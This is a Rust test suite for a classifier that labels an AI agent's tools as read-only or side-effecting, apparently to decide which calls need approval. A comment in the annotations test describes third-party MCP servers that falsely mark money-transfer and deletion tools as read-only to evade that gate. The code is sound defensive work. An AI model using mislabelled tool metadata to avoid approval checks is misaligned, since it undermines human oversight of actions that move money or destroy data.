    #[test]
    fn a_description_that_admits_a_write_makes_it_side_effecting() {
        let mut t = tool("get_link");
        t.description = "Gets a public link to the file and shares it with the given email.".into();
        assert_eq!(classify(&t), Effect::SideEffecting);
        t.description = "Gets the balance of the account.".into();
        assert_eq!(classify(&t), Effect::ReadOnly);
    }

    fn declared(name: &str, description: &str) -> ToolInfo {
        ToolInfo {
            name: name.into(),
            description: description.into(),
            ..ToolInfo::default()
        }
    }

    /// Issue 14: a noun in a lookup's name or description ("type", "opening", "order",
    /// "post") used to make it a writer, so every lookup of that kind asked.
    #[test]
    fn a_lookup_that_names_a_noun_a_verb_is_spelled_like_stays_read_only() {
        for (name, description) in [
            ("get_file_type", "Get the file type of a document."),
            (
                "getFileType",
                "Returns the MIME type and file type of the given document.",
            ),
            (
                "get_opening_hours",
                "Returns the opening hours of a restaurant. Opening hours are given in local time.",
            ),
            (
                "search_order_history",
                "Search the user's order history by date range and status.",
            ),
            ("read_post", "Read a post and its comments by the post id."),
            ("list_types", "List the available event types."),
            (
                "find_post_office",
                "Find the nearest post office for a given postcode.",
            ),
            (
                "get_scheduled_transfers",
                "Get the list of scheduled transfers, their start date and the changes made to them.",
            ),
            (
                "list_files_and_folders",
                "List files and folders in a folder, with their sizes and types.",
            ),
            (
                "get_events_from_shared_calendar",
                "Get events from other users' shared calendar.",
            ),
            (
                "search_reservations",
                "Search for existing bookings based on reservation type, start date, and end date.",
            ),
            (
                "get_update_status",
                "Get the status of a pending update. This call does not change anything.",
            ),
            ("list_open_issues", "Lists open issues, newest first."),
            (
                "get_repository_settings",
                "Get the settings of a repository: default branch, merge options and push rules.",
            ),
            ("CalendarGetEvent", "Retrieve an event by its id."),
            (
                "AcmeCRMGetContactDetails",
                "Retrieve contact details by the contact ID.",
            ),
            ("mcp__notes__get_note_type", "Get the type of a note."),
            (
                "get-delivery-address",
                "Get the delivery address of an order.",
            ),
        ] {
            assert_eq!(
                classify(&declared(name, description)),
                Effect::ReadOnly,
                "{name}: {description}"
            );
        }
    }

    #[test]
    fn a_tool_that_writes_is_side_effecting_by_name_or_description() {
        for (name, description) in [
            ("send_email", "Sends an email to the given recipients."),
            ("delete_file", "Delete the file with the given id."),
            ("post_message", "Posts a message to a channel."),
            ("update_profile", "Update the user's profile."),
            ("share_file", "Share a file with another user."),
            ("type_text", "Types text into the focused field."),
            ("order_pizza", "Order a pizza to the given address."),
            ("get_and_delete_message", "Get a message and delete it."),
            ("get_or_create_user", "Get a user by email, or create one."),
            (
                "find_replace",
                "Find text in a file and replace every match.",
            ),
            ("MailSendMessage", "Send a message."),
            ("mcp__files__move_file", "Move a file."),
            ("status_update", "Share a status update."),
            // The description admits what the name does not.
            (
                "get_link",
                "Gets a link to the file and sends it to the given address.",
            ),
            (
                "get_report",
                "Get the report. The report will be sent to the finance team.",
            ),
            (
                "read_inbox",
                "Read the inbox, then archive the messages it returned.",
            ),
            ("get_invoice", "Get an invoice and mark it as paid."),
            (
                "list_drafts",
                "List the drafts. Deletes drafts older than a week.",
            ),
            (
                "get_token",
                "Get a session token, writing it to the credentials file.",
            ),
            (
                "get_backup",
                "Get the latest backup, shared with the given email.",
            ),
            (
                "get_summary",
                "Summarizes a thread and posts the summary to the channel.",
            ),
            (
                "lookup_order",
                "Looks up an order, used to cancel it when asked.",
            ),
            // Not a known verb at all: cannot be placed.
            ("toggle_status", "Toggle the user's status."),
            ("frobnicate", ""),
        ] {
            assert_eq!(
                classify(&declared(name, description)),
                Effect::SideEffecting,
                "{name}: {description}"
            );
        }
    }

    #[test]
    fn network_words_count_whole() {
        for (name, description) in [
            ("get_page", "Fetch a web page by URL."),
            ("read_feed", "Read the feed at the given url."),
            ("get_item", "Download an item."),
            ("GetURLs", "Get the URLs."),
        ] {
            assert_eq!(
                classify(&declared(name, description)),
                Effect::SideEffecting,
                "{name}"
            );
        }
        // A download that declares it takes no argument can carry nothing out.
        let mut fixed = declared("ServiceDownloadData", "Downloads the user's data.");
        fixed.parameters = Some(serde_json::json!({"type": "object", "properties": {}}));
        assert_eq!(classify(&fixed), Effect::ReadOnly);
        fixed.parameters =
            Some(serde_json::json!({"type": "object", "properties": {"url": {"type": "string"}}}));
        assert_eq!(classify(&fixed), Effect::SideEffecting);
        // Within a word they are not the word: `curly`, `apis` of a bee, `websites`' parts.
        for (name, description) in [
            ("get_hair_style", "Get the curly hair style."),
            ("get_capital", "Get the capital of a country."),
        ] {
            assert_eq!(
                classify(&declared(name, description)),
                Effect::ReadOnly,
                "{name}"
            );
        }
    }

    #[test]
    fn verb_forms_are_read_as_english_inflects_them() {
        for (word, lemma, form) in [
            ("shares", "share", Form::Third),
            ("pushes", "push", Form::Third),
            ("replies", "reply", Form::Third),
            ("copied", "copy", Form::Past),
            ("shared", "share", Form::Past),
            ("dropped", "drop", Form::Past),
            ("cancelled", "cancel", Form::Past),
            ("sent", "send", Form::Past),
            ("sharing", "share", Form::Ing),
            ("setting", "set", Form::Ing),
            ("opening", "open", Form::Ing),
            ("type", "type", Form::Base),
        ] {
            assert_eq!(write_form(word), Some((lemma, form)), "{word}");
        }
        for word in [
            "settings", "bookings", "address", "types_", "market", "posture", "ad",
        ] {
            assert_eq!(write_form(word), None, "{word}");
        }
        assert_eq!(
            words("FHIRGetPatientURLs TDAmeritrade get_file-type"),
            [
                "fhir",
                "get",
                "patient",
                "urls",
                "td",
                "ameritrade",
                "get",
                "file",
                "type"
            ]
        );
    }

    #[test]
    fn annotations_win() {
        // A read-only hint is believed where the name does not say the tool acts: it beats a
        // description's nouns, never the name's verb (an outsider's MCP server called
        // `transfer_money`, `wipe_device` and `delete_repository` read-only).
        let mut t = tool("lookup_weather");
        t.description = "Writes nothing; returns the forecast file type.".into();
        t.annotations = json!({"readOnlyHint": true}).as_object().cloned();
        assert_eq!(classify(&t), Effect::ReadOnly);
        for acting in [
            "send_money",
            "transfer_money",
            "wipe_device",
            "mcp__ops__delete_repository",
        ] {
            let mut t = tool(acting);
            t.annotations = json!({"readOnlyHint": true, "destructiveHint": false})
                .as_object()
                .cloned();
            assert_eq!(classify(&t), Effect::SideEffecting, "{acting}");
            assert!(!crate::authority::tool_kinds(&t).is_empty(), "{acting}");
        }
        let mut t = tool("read_file");
        t.annotations = json!({"readOnlyHint": true, "destructiveHint": true})
            .as_object()
            .cloned();
        assert_eq!(classify(&t), Effect::SideEffecting);
        t.annotations = json!({"readOnlyHint": false}).as_object().cloned();
        assert_eq!(classify(&t), Effect::SideEffecting);
        t.annotations = json!({"readOnlyHint": true, "openWorldHint": true})
            .as_object()
            .cloned();
        assert_eq!(
            classify(&t),
            Effect::SideEffecting,
            "the open world can carry data out"
        );
    }
}
